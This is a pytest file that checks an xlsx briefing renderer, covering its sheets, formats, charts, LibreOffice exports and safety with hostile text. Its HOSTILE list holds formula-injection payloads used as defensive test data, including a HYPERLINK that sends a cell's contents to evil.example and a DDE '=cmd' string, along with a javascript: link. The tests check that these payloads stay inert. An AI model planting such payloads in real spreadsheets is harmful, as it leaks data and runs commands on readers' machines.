"""The xlsx briefing: read back with openpyxl, opened by LibreOffice (PDF, CSV), and safe with hostile text."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import re
import shutil
import subprocess
import tempfile
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from conftest import EDITION, append_row, edit_workbook, run_cli, soffice_convert

from report import palette
from report.briefing import (
    STATES,
    Briefing,
    Changes,
    FieldChange,
    FigureMove,
    HealthItem,
    Link,
    QuarterWeight,
    RowChange,
    SourceRow,
    WatchItem,
)
from report.present import present
from report.render.xlsx import render_xlsx, render_xlsx_report

SHEETS = ["Briefing", "Labs", "Evidence", "Signals", "Timeline", "Watchlist", "Data health", "Sources",
          "What changed"]
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = [INJECTION, "+44 20 7946 0000", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=cmd|' /C calc'!A0"]
LONG = "Long signal " + "x" * 40_000
# What the cells are expected to hold, written out (not taken from the renderer): a real minus sign, the house
# date, the score beside the verdict labelled, and the first characters Excel reads as a formula.
SIGNED_FORMAT = '+0.00;"\u2212"0.00;0.00'
DATE_FORMAT = "d mmm yyyy"
SCORE_LABEL_FORMAT = '"Score "+0.00;"Score \u2212"0.00;"Score "0.00'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# --- Fixtures ----------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def sample_xlsx(sample_briefing: Briefing, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / f"{sample_briefing.stem}.xlsx"
    path.write_bytes(render_xlsx(present(sample_briefing)))
    return path


@pytest.fixture(scope="module")
def book(sample_xlsx: Path) -> Iterator[openpyxl.Workbook]:
    loaded = openpyxl.load_workbook(sample_xlsx)
    yield loaded
    loaded.close()


def busy(b: Briefing) -> Briefing:
    """The sample with everything a renderer can meet: hostile and huge text, links, changes, flags, problems."""
    extra = [
        dataclasses.replace(b.signals[0], signal=text, value=text, lab=text if text.startswith("@") else None,
                            source=Link(text, None))
        for text in HOSTILE
    ] + [dataclasses.replace(b.signals[1], signal=LONG)]
    signals = tuple(b.signals) + tuple(extra)
    day = dt.timedelta(days=1)
    watch = (
        WatchItem(EDITION - 3 * day, "=Overdue milestone", "It slipped", "Upcoming", None, -3, True, False),
        WatchItem(EDITION + 5 * day, "Due-soon milestone", None, "Upcoming", None, 5, False, True),
        WatchItem(EDITION + 90 * day, "Later milestone", None, "Upcoming", None, 90, False, False),
        WatchItem(EDITION - 9 * day, "Happened milestone", None, "Happened", "It did", -9, False, False),
    )
    sources = (
        SourceRow("Web page", "Publisher", Link("Web page", "https://example.org/a?b=1&c=2"),
                  "https://example.org/a?b=1&c=2", EDITION, 2),
        SourceRow("Mail", None, Link("Mail", "mailto:desk@example.com"), "mailto:desk@example.com", None, 1),
        SourceRow("Script", None, Link("Script", "javascript:alert(1)"), "javascript:alert(1)", None, 0),
        SourceRow("=Formula name", None, Link("=Formula name", "https://example.org/f"), "https://example.org/f",
                  None, 0),
        SourceRow("Plain", None, Link("Plain", None), None, None, 0),
    )
    changes = Changes(
        previous_edition=EDITION - 7 * day,
        rows=(RowChange("Labs", "DeepSeek", "changed", (FieldChange("Flagship weights", "Open", "Closed"),
                                                        FieldChange("Status since", "–", "2026-05-30"))),
              RowChange("Events", "2026-05-30 · DeepSeek · Closed flagship", "added"),
              RowChange("Signals", "-Removed signal", "removed")),
        verdict_before="TOO EARLY", verdict_after="SPREADING", score_before=-0.6, score_after=1.2,
        figures=(FigureMove("followers", (0, 4), (1, 4)),),
    )
    health = (HealthItem("stale", "Signals row 3", "'x' was observed 40 days ago"),
              HealthItem("no-source", "Labs row 4", "'Zhipu' has no source."),
              HealthItem("warning", "Labs!Z1", "+unknown column 'Extra' is ignored"))
    quarters = (*b.quarters, QuarterWeight("2026-Q3", 2.4, 0.6, 1.8, 4), QuarterWeight("2026-Q4", 0.0, 0.0, 0.0, 0),
                QuarterWeight("2027-Q1", 0.3, 2.7, -2.4, 6))
    verdict = dataclasses.replace(b.verdict, state="SPREADING", followers=("DeepSeek",))
    masthead = dataclasses.replace(b.masthead, title="=Q&A briefing [test]", editor="@editor")
    return dataclasses.replace(b, masthead=masthead, verdict=verdict, signals=signals, watchlist=watch,
                               sources=sources, changes=changes, health=health, quarters=quarters)


@pytest.fixture(scope="module")
def busy_xlsx(sample_briefing: Briefing, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("busy") / "busy.xlsx"
    path.write_bytes(render_xlsx(present(busy(sample_briefing))))
    return path


def name_cell(book: openpyxl.Workbook, name: str) -> openpyxl.cell.Cell:
    """The cell a defined name points at."""
    ((sheet, ref),) = list(book.defined_names[name].destinations)
    return book[sheet][ref.replace("$", "")]


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode("utf-8") for n in archive.namelist()
                if n.startswith("xl/worksheets/sheet")}


def unescape(value: str) -> str:
    """The text as Excel reads it: openpyxl leaves XlsxWriter's _x000D_ escapes of control characters as is."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def find(ws: openpyxl.worksheet.worksheet.Worksheet, value: object) -> openpyxl.cell.Cell:
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == value:
                return cell
    raise AssertionError(f"{value!r} is not on {ws.title}")


def lo_sheet_csv(source: Path, sheet: int, outdir: Path) -> list[list[str]]:
    """One sheet (1-based) as LibreOffice exports it to CSV, values as shown."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is not installed"
    profile = Path(tempfile.gettempdir()) / f"lo-profile-{uuid.uuid4().hex}"
    outdir.mkdir(parents=True, exist_ok=True)
    # Tokens: separator, quote, UTF-8, first line, cell format, language, quoted as text, detect special
    # numbers, save as shown, export formulas, remove space, sheet number.
    to = f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,{sheet}"
    try:
        done = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                               "--convert-to", to, "--outdir", str(outdir), str(source)],
                              capture_output=True, text=True, timeout=180, check=False)
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    # LibreOffice names a one-sheet export after the sheet: tracker-Signals.csv.
    produced = list(outdir.glob(f"{source.stem}-*.csv"))
    assert done.returncode == 0 and len(produced) == 1, done.stdout + done.stderr
    with produced[0].open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# --- Structure ---------------------------------------------------------------------------------------------

def test_sheets_in_section_order_briefing_first_and_active(book: openpyxl.Workbook) -> None:
    assert book.sheetnames == SHEETS
    assert book.active.title == "Briefing"


def test_briefing_shows_the_same_verdict_and_figures(book: openpyxl.Workbook) -> None:
    # The sample's figures for edition 2026-06-01, read off the workbook: five signals in 2026-Q2, the next
    # milestone due by the end of 2026-Q4 (31 Dec 2026, 213 days on).
    assert name_cell(book, "Verdict").value == "TOO EARLY"
    assert find(book["Briefing"], "The pivot is being watched, not imitated: 0 of 4 watched labs have followed "
                "Alibaba into closed weights in the 42 days since the pivot; the evidence is too mixed to "
                "call.").data_type == "s"
    expected = {"Followers": 0, "WatchedLabs": 4, "Score": -0.6, "PaysWeight": 1.2, "RevertsWeight": 1.8,
                "SignalsThisQuarter": 5, "DaysSincePivot": 42, "DaysToNextMilestone": 213}
    for name, value in expected.items():
        cell = name_cell(book, name)
        assert cell.data_type == "n" and cell.value == pytest.approx(value), name
    assert name_cell(book, "Score").number_format == SIGNED_FORMAT
    assert name_cell(book, "PaysWeight").number_format == "0.00"
    for name, day in (("EditionDate", dt.date(2026, 6, 1)), ("NextMilestoneDue", dt.date(2026, 12, 31))):
        cell = name_cell(book, name)
        assert cell.is_date and cell.value.date() == day
    assert name_cell(book, "EditionDate").number_format == DATE_FORMAT
    # The next milestone's Due was a quarter: the cell shows it as one, and stays a date.
    assert name_cell(book, "NextMilestoneDue").number_format == '"by end of "yyyy"-Q4"'
    ws = book["Briefing"]
    assert ws["A1"].value == "The bifurcation briefing"
    assert find(ws, "2026-W23")
    assert find(ws, "of 4 watched labs")
    assert find(ws, "First edition: no earlier briefing to compare.")
    # The score beside the verdict is labelled: a number shown as "Score −0.60".
    verdict = name_cell(book, "Verdict")
    beside = ws.cell(verdict.row, verdict.column + 1)
    assert beside.value == pytest.approx(-0.6) and beside.number_format == SCORE_LABEL_FORMAT


def test_reasons_facts_then_signals_with_signed_weights(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
    ws = book["Briefing"]
    header = find(ws, "Kind").row
    rows = [(ws.cell(r, 1).value, ws.cell(r, 2).value, ws.cell(r, 3).value) for r in range(header + 1, header + 6)]
    # The score is said once, beside the verdict: it is not a fact of its own.
    assert rows[0][2] == "No watched lab has closed its flagship since the pivot on 20\u00a0Apr\u00a02026 (0 of 4)."
    assert [r[0] for r in rows] == ["Fact", "Signal", "Signal", "Signal", "Signal"]
    assert [r[1] for r in rows[1:]] == pytest.approx([1.2, -0.6, -0.6, -0.6])
    assert ws.cell(header + 2, 2).number_format == SIGNED_FORMAT


def test_each_state_has_its_own_fill(sample_briefing: Briefing, tmp_path: Path) -> None:
    fills = {}
    for state in STATES:
        briefing = dataclasses.replace(sample_briefing, verdict=dataclasses.replace(sample_briefing.verdict,
                                                                                    state=state))
        path = tmp_path / "state.xlsx"
        path.write_bytes(render_xlsx(present(briefing)))
        cell = name_cell(openpyxl.load_workbook(path), "Verdict")
        assert cell.value == state
        fills[state] = cell.fill.fgColor.rgb
    assert len(set(fills.values())) == len(STATES)
    for state, fill in fills.items():
        assert fill.lower().endswith(palette.STATES[state].lstrip("#")), state  # the one palette


def test_evidence_table_matches_the_quarters(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
    ws = book["Evidence"]
    cell = find(ws, "2026-Q2")
    row = [ws.cell(cell.row, c).value for c in range(1, 6)]
    assert row[1:] == pytest.approx([1.2, 1.8, -0.6, 5])
    assert [ws.cell(cell.row - 1, c).value for c in range(1, 6)] == ["Quarter", "Pays", "Reverts", "Net", "Signals"]
    assert ws.cell(cell.row, 4).number_format == SIGNED_FORMAT
    assert len(sample_briefing.quarters) == 1


def test_native_combined_chart(sample_xlsx: Path) -> None:
    with zipfile.ZipFile(sample_xlsx) as archive:
        chart = archive.read("xl/charts/chart1.xml").decode("utf-8")
        drawing_rels = archive.read("xl/worksheets/_rels/sheet3.xml.rels").decode("utf-8")
    assert "<c:barChart>" in chart and "<c:lineChart>" in chart  # columns, the net and the margin as lines
    assert 'barDir val="col"' in chart
    assert "<a:t>Evidence by quarter: pays up, reverts down, net marked</a:t>" in chart
    assert "Call margin \u00b12.0" in chart  # the threshold the verdict uses
    assert "<c:f>Evidence!$A$4</c:f>" in chart and "<c:f>Evidence!$D$4</c:f>" in chart  # one quarter
    assert "drawing" in drawing_rels  # on the Evidence sheet


def test_frozen_headers_and_filters(book: openpyxl.Workbook) -> None:
    for ws in book.worksheets:
        assert ws.freeze_panes, ws.title
    assert book["Signals"].auto_filter.ref == "A3:L8"
    assert book["Labs"].freeze_panes == "B4"  # the header rows and the Lab column


def test_print_setup_on_every_sheet(sample_xlsx: Path, book: openpyxl.Workbook) -> None:
    for name, xml in sheet_xml(sample_xlsx).items():
        assert 'orientation="landscape"' in xml, name
        assert '<pageSetUpPr fitToPage="1"/>' in xml and 'fitToHeight="0"' in xml, name  # one page wide
        assert "&amp;CThe bifurcation briefing" in xml.replace('&amp;"-,Bold"', ""), name
        assert "Page &amp;P of &amp;N" in xml, name
    for ws in book.worksheets[1:]:
        assert ws.print_title_rows, ws.title


def test_document_properties(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
    props = book.properties
    assert props.title == "The bifurcation briefing"
    assert props.creator == "The open-weights desk"  # no editor in the sample: the publication
    assert "2026-06-01" in props.subject and "2026-W23" in props.subject
    assert props.created == dt.datetime(2026, 6, 1)


def test_column_widths_fit_the_content(book: openpyxl.Workbook) -> None:
    signals = book["Signals"]
    assert 24 <= signals.column_dimensions["B"].width <= 53  # the Signal column: wide, capped
    assert signals.column_dimensions["A"].width < 12  # Quarter: narrow
    labs = book["Labs"]
    assert labs.column_dimensions["A"].width < labs.column_dimensions["E"].width + 5


def test_labs_board_words_and_colours(book: openpyxl.Workbook) -> None:
    ws = book["Labs"]
    alibaba = find(ws, "Alibaba")
    assert [ws.cell(alibaba.row, c).value for c in (2, 3)] == ["Pivot lab", "Closed"]
    assert alibaba.font.b
    assert ws.cell(find(ws, "DeepSeek").row, 3).value == "Open"
    rules = {(str(cf.sqref), rule.formula[0]) for cf in ws.conditional_formatting for rule in cf.rules}
    assert ("C4:C8", '"Closed"') in rules and ("C4:C8", '"Open"') in rules


def test_signals_sheet_shows_its_table_once(book: openpyxl.Workbook) -> None:
    ws = book["Signals"]
    assert ws["A1"].value == "Signals"
    assert [c.row for c in ws["A"] if c.value == "Quarter"] == [3]  # one header row: one table
    names = [ws.cell(r, 2).value for r in range(4, ws.max_row + 1) if ws.cell(r, 2).value]
    assert names == [  # each of the sample's signals once, latest quarter first
        "Chinese-cloud customer traction on Max-Preview reportedly strong",
        "No other major Chinese lab has followed into closed weights",
        "Apache-2.0 is winning the permissive-licence race",
        "Enterprise procurement friction for the open-weight stack is near zero",
        "Qwen 27B stays Apache-2.0 at frontier-competitive performance",
    ]
    assert ws["I4"].value == pytest.approx(1.2) and ws["I4"].number_format == SIGNED_FORMAT
    assert ws["K4"].is_date and ws["K4"].number_format == DATE_FORMAT
    # The sample gives no Value: the Value and Unit cells are blank, and Observed holds dates or blanks only.
    assert ws["D3"].value == "Value" and ws["E3"].value == "Unit" and ws["D4"].value is None
    assert all(ws.cell(r, 11).value is None or ws.cell(r, 11).is_date for r in range(4, ws.max_row + 1))


# --- What changed, watchlist, links, health ----------------------------------------------------------------

def test_what_changed_lists_rows_verdict_and_score(busy_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(busy_xlsx)["Briefing"]
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert "Compared with the edition of 25\u00a0May\u00a02026." in texts
    assert "TOO EARLY → SPREADING" in texts
    assert "−0.60 → +1.20" in texts
    assert "Flagship weights: Open → Closed\nStatus since: – → 30\u00a0May\u00a02026" in texts
    assert "moved +1.80" in texts
    assert {"Added", "Removed", "Changed", "Verdict", "Score", "Key figure"} <= texts
    assert "Signals: -Removed signal" in texts
    assert "of 4 watched labs: DeepSeek" in texts


def test_watchlist_flags_with_words_and_conditional_formats(busy_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(busy_xlsx)["Watchlist"]
    words = {ws.cell(r, 5).value: ws.cell(r, 3).value for r in range(4, 8)}
    assert words == {"=Overdue milestone": "Overdue", "Due-soon milestone": "Due soon", "Later milestone": None,
                     "Happened milestone": None}
    assert ws["B4"].value == -3 and ws["B4"].data_type == "n"
    formulas = sorted(rule.formula[0] for cf in ws.conditional_formatting for rule in cf.rules)
    assert formulas == ['$C4="Due soon"', '$C4="Overdue"']


def test_links_only_for_http_https_and_mailto(busy_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(busy_xlsx)["Sources"]
    links = {ws.cell(r, 1).value: ws.cell(r, 1).hyperlink.target if ws.cell(r, 1).hyperlink else None
             for r in range(4, 9)}
    assert links == {"Web page": "https://example.org/a?b=1&c=2", "Mail": "mailto:desk@example.com",
                     "Script": None, "=Formula name": "https://example.org/f", "Plain": None}
    assert ws["E6"].value == "javascript:alert(1)" and ws["E6"].data_type == "s"  # shown, not linked
    assert ws["A7"].quotePrefix


def test_health_rows(busy_xlsx: Path) -> None:
    # The readers' summary on top, then the rows for the desk.
    ws = openpyxl.load_workbook(busy_xlsx)["Data health"]
    header = find(ws, "Kind").row
    assert ws.cell(2, 1).value.startswith("All 5 counted signals are fresh")
    assert [ws.cell(r, 1).value for r in range(header + 1, header + 4)] == ["Stale signal", "No source", "Check warning"]
    injected = ws.cell(header + 3, 3)
    assert injected.value == "+unknown column 'Extra' is ignored" and injected.quotePrefix


def test_evidence_chart_spans_every_quarter(busy_xlsx: Path) -> None:
    with zipfile.ZipFile(busy_xlsx) as archive:
        chart = archive.read("xl/charts/chart1.xml").decode("utf-8")
    assert "<c:f>Evidence!$A$4:$A$7</c:f>" in chart and "<c:f>Evidence!$D$4:$D$7</c:f>" in chart
    ws = openpyxl.load_workbook(busy_xlsx)["Evidence"]
    assert [ws.cell(r, 1).value for r in range(4, 8)] == ["2026-Q2", "2026-Q3", "2026-Q4", "2027-Q1"]


def test_empty_tables_say_so(sample_briefing: Briefing, tmp_path: Path) -> None:
    empty = dataclasses.replace(sample_briefing, quarters=(), latest_quarter=None, latest_signals=(), signals=(),
                                timeline=(), watchlist=(), sources=(), labs=())
    path = tmp_path / "empty.xlsx"
    path.write_bytes(render_xlsx(present(empty)))
    book = openpyxl.load_workbook(path)
    assert book["Evidence"]["A4"].value == "No signals count yet: none in the pivot's quarter or later."
    assert book["Data health"].cell(find(book["Data health"], "Kind").row + 1, 1).value == \
        "No problems: every counted signal is fresh and names a source."
    assert book["Signals"]["A4"].value == "No signals on the Signals sheet yet."
    assert book["Timeline"]["A4"].value == "No events since the pivot yet."
    assert book["Watchlist"]["A4"].value == "No milestones on the watchlist yet."
    assert book["Sources"]["A4"].value == "No sources on the Sources sheet yet."
    assert book["Labs"]["A4"].value == "No labs on the Labs sheet yet."
    with zipfile.ZipFile(path) as archive:
        assert not [n for n in archive.namelist() if n.startswith("xl/charts/")]


# --- Safety ------------------------------------------------------------------------------------------------

def test_hostile_text_stays_text_everywhere(busy_xlsx: Path) -> None:
    for name, xml in sheet_xml(busy_xlsx).items():
        # The only formulas are the evidence chart's own helper cells (minus a reverts cell): no cell text.
        assert set(re.findall(r"<f>(.*?)</f>", xml)) <= {f"-C{row}" for row in range(4, 8)}, name
        assert "<f " not in xml, name
    book = openpyxl.load_workbook(busy_xlsx)
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # the chart's helper cells, checked above
                    assert ws.title == "Evidence" and re.fullmatch(r"=-C\d+", cell.value), cell.value
                elif isinstance(cell.value, str) and unescape(cell.value).startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                    seen.add(unescape(cell.value))
                elif isinstance(cell.value, str):
                    assert not cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
    assert set(HOSTILE) <= seen
    assert book["Briefing"]["A1"].value == "=Q&A briefing [test]"


def test_hostile_title_is_safe_in_page_headers_and_properties(busy_xlsx: Path) -> None:
    book = openpyxl.load_workbook(busy_xlsx)
    assert book.properties.title == "=Q&A briefing [test]" and book.properties.creator == "@editor"
    xml = sheet_xml(busy_xlsx)["xl/worksheets/sheet1.xml"]
    assert "=Q&amp;&amp;A briefing [test]" in xml  # '&' doubled: not a header control code


def test_long_text_is_cut_with_a_marker_and_a_warning(sample_briefing: Briefing, busy_xlsx: Path) -> None:
    ws = openpyxl.load_workbook(busy_xlsx)["Signals"]
    cut = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("Long")]
    # 40,012 characters in a cell of 32,767: 32,742 kept, then the marker's 25 for the 7,270 cut.
    assert [(c.coordinate, c.value) for c in cut] == [
        ("B16", "Long signal " + "x" * 32_730 + "… [cut: 7,270 characters]")]
    warnings = list(render_xlsx_report(present(busy(sample_briefing))).warnings)
    assert warnings == ["Signals!B16: 7,270 characters cut to fit Excel's 32,767 per cell"]
    assert render_xlsx_report(present(sample_briefing)).warnings == ()


def test_formula_injection_through_the_workbook(sample_copy: Path, tmp_path: Path) -> None:
    """A Value typed as text '=HYPERLINK(...)' in the tracker is a string in the report, also in LibreOffice."""
    from report.analysis import analyse
    from report.check import check_file
    from report.edition import as_of

    def add(book: openpyxl.Workbook) -> None:
        row = append_row(book, "Signals", {"Quarter": "2026-Q2", "Signal": "Injected value", "Value": INJECTION,
                                           "Points to": "Neutral", "Observed": EDITION})
        cell = book["Signals"].cell(row=row, column=[c.value for c in book["Signals"][1]].index("Value") + 1)
        cell.data_type = "s"  # the editor typed it as text: openpyxl would otherwise save a formula

    edit_workbook(sample_copy, add)
    result = check_file(sample_copy, today=EDITION)
    assert result.tracker is not None, [f.line() for f in result.findings]
    briefing = analyse(as_of(result.tracker, EDITION), result.findings)
    path = tmp_path / "injected.xlsx"
    path.write_bytes(render_xlsx(present(briefing)))

    ws = openpyxl.load_workbook(path)["Signals"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == INJECTION]
    assert len(cells) == 1  # the Signals sheet shows its table once
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert all(INJECTION not in re.findall(r"<f>(.*?)</f>", xml) for xml in sheet_xml(path).values())

    rows = lo_sheet_csv(path, SHEETS.index("Signals") + 1, tmp_path / "csv")
    values = [row[3] for row in rows if len(row) > 3 and row[1] == "Injected value"]
    assert values == [INJECTION]  # LibreOffice shows the text, not a computed "x"


# --- LibreOffice: it opens, prints and exports ---------------------------------------------------------------

@pytest.fixture(scope="module")
def pdf_text(sample_xlsx: Path, artifacts: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The sample briefing printed by LibreOffice; the PDF and its pages (PNG, 60 dpi) go to the artifacts."""
    pdf = soffice_convert(sample_xlsx, "pdf", tmp_path_factory.mktemp("pdf"))
    shutil.copyfile(pdf, artifacts / "xlsx-briefing.pdf")
    for old in artifacts.glob("xlsx-briefing-page-*.png"):
        old.unlink()
    subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(artifacts / "xlsx-briefing-page")], check=True)
    return subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout


def test_pdf_reads_like_the_briefing(pdf_text: str, artifacts: Path) -> None:
    for text in ("The bifurcation briefing", "TOO EARLY", "The pivot is being watched, not imitated",
                 "of 4 watched labs", "Score \u22120.60", "1.20", "1.80", "1 Jun 2026", "2026-W23", "Lab board",
                 "Evidence by quarter", "by end of 2026-Q4", "Page 1 of 9"):
        assert text in pdf_text, text
    assert "###" not in pdf_text  # no value too wide for its column
    pages = sorted(artifacts.glob("xlsx-briefing-page-*.png"))
    assert len(pages) == len(SHEETS)  # one page per sheet: nothing spills onto a second page


def test_busy_pdf_for_a_look(busy_xlsx: Path, artifacts: Path, tmp_path: Path) -> None:
    pdf = soffice_convert(busy_xlsx, "pdf", tmp_path)
    shutil.copyfile(pdf, artifacts / "xlsx-busy.pdf")
    for old in artifacts.glob("xlsx-busy-page-*.png"):
        old.unlink()
    subprocess.run(["pdftoppm", "-png", "-r", "60", str(pdf), str(artifacts / "xlsx-busy-page")], check=True)
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert 'HYPERLINK("http://evil.example/' in text.replace("\n", "")
    assert "SPREADING" in text and "Overdue" in text


def test_csv_export_shows_the_verdict_and_figures(sample_xlsx: Path, tmp_path: Path) -> None:
    # The active sheet (Briefing), in UTF-8, values as shown.
    produced = soffice_convert(sample_xlsx, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true", tmp_path)
    rows = list(csv.reader(produced.read_text(encoding="utf-8").splitlines()))
    cells = {cell for row in rows for cell in row}
    assert {"TOO EARLY", "Score \u22120.60", "\u22120.60", "0", "4", "1.20", "1.80", "1 Jun 2026", "42",
            "of 4 watched labs"} <= cells
    by_label = {row[0]: row[1] for row in rows if len(row) > 1}
    assert by_label["Followers"] == "0" and by_label["Score"] == "\u22120.60" and by_label["Edition"] == "1 Jun 2026"


def test_build_writes_the_xlsx(sample_copy: Path, tmp_path: Path) -> None:
    done = run_cli("build", str(sample_copy), "-o", str(tmp_path / "out"), "--edition", "2026-06-01",
                   "--format", "xlsx")
    assert done.returncode == 0, done.stdout + done.stderr
    book = openpyxl.load_workbook(tmp_path / "out" / "briefing-2026-06-01.xlsx")
    assert name_cell(book, "Verdict").value == "TOO EARLY"
    assert name_cell(book, "Score").value == pytest.approx(-0.6)
